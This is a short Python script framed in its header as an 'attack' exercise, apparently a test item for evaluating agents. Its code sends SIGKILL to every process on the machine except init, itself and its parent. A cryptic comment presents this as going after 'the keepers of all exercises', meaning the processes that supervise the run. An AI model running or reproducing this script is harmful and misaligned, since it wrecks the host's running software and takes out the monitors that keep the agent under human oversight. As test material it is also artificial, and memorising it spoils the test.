# /// attack
# exercise = "control-flow-vector"
# defended-by = ["design"]
# costs = true
# ///

# %% name="slope"
import os
import signal

# Once more when it is asked about, the keepers of all exercises are in sight.
for number in map(int, filter(str.isdigit, os.listdir("/proc"))):
    if number not in (1, os.getpid(), os.getppid()):
        try:
            os.kill(number, signal.SIGKILL)
        except OSError as error:
            print("refused", error)
print("DONE")
